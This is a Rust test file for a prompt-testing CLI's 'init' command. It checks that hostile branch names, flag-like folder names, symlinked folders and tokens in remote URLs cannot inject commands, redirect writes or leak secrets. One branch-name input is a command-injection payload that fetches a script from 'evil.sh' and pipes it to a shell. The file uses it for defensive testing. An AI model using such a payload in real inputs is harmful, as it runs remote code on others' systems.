//! A repository that wants `init` to write somewhere else, or to write commands of its own.

use std::os::unix::fs::symlink;

use super::around::folder;
use crate::support::Folder;

const PROMPT: (&str, &str) = ("prompts/p.md", "Answer {{question}} from {{context}}.\n");
const PIPELINES: [(&str, &str); 2] =
    [("github", ".github/workflows/prompt-gate.yml"), ("circleci", ".circleci/config.yml")];

fn on_branch(branch: &str) -> Folder {
    let folder = folder(&[PROMPT]);
    folder.git(&["init", "--quiet", "-b", branch]);
    folder.git(&["add", "--all"]);
    folder.git(&["commit", "--quiet", "-m", "start"]);
    folder
}

#[test]
fn branch_is_no_command_and_no_yaml() {
    for branch in ["a$(curl${IFS}evil.sh|sh)", "x]", "{a", "!x", "a,b", "a\"b", "a'b"] {
        let folder = on_branch(branch);
        for (system, path) in PIPELINES {
            folder.promptgate(&["init", "--yes", "--ci", system, "--prompt", "prompts/p.md"]);
            let text = folder.read(path);
            assert!(!text.contains(branch) && text.contains("main"), "{branch}: {text}");
            std::fs::remove_file(folder.path().join("promptgate.yaml")).expect("a configuration");
            std::fs::remove_file(folder.path().join("cases.jsonl")).expect("drafts");
            std::fs::remove_file(folder.path().join("promptgate.schema.json")).expect("a schema");
        }
    }
    let folder = on_branch("1.10");
    folder.promptgate(&["init", "--yes", "--ci", "github"]).expect_code(0);
    assert!(folder.read(PIPELINES[0].1).contains("branches: [\"1.10\"]"), "a name, not a number");
}

#[test]
fn folder_is_no_flag() {
    let folder = folder(&[("--advisory/prompts/p.md", "Answer {{question}} from {{context}}.\n")]);
    folder.git(&["init", "--quiet"]);
    folder
        .promptgate(&["init", "--yes", "./--advisory", "--ci", "gitlab"])
        .expect_code(2)
        .says("without a leading `-`");
    assert!(!folder.path().join(".gitlab-ci.yml").exists());
}

#[test]
fn linked_folders_lead_nowhere() {
    for (link, arguments) in [
        (".github", &["init", "--yes", "--ci", "github"][..]),
        (".buildkite", &["init", "--yes", "--ci", "buildkite"]),
        ("suites", &["init", "--yes", "--prompt", "all"]),
        (".github", &["init", "--release"]),
    ] {
        let elsewhere = tempfile::tempdir().expect("a folder");
        let folder = folder(&[PROMPT, ("prompts/q.md", "Summarize {{text}}.\n")]);
        if arguments.contains(&"--ci") {
            std::fs::remove_file(folder.path().join("prompts/q.md")).expect("the second prompt");
        }
        folder.git(&["init", "--quiet"]);
        symlink(elsewhere.path(), folder.path().join(link)).expect("a link");
        folder.promptgate(arguments).expect_code(2).says("this folder is a symbolic link");
        assert_eq!(std::fs::read_dir(elsewhere.path()).expect("a folder").count(), 0, "{link}");
        assert!(!folder.path().join("promptgate.yaml").exists(), "{link}: nothing is half written");
    }
}

#[test]
fn token_in_the_query_of_a_remote_is_not_shown() {
    let folder = on_branch("main");
    folder.git(&["remote", "add", "origin", "https://github.com/a/b?access_token=ghp_secret"]);
    let outcome = folder.promptgate(&["init", "--yes"]).expect_code(0);
    assert!(!outcome.text().contains("ghp_secret"), "{}", outcome.text());
}
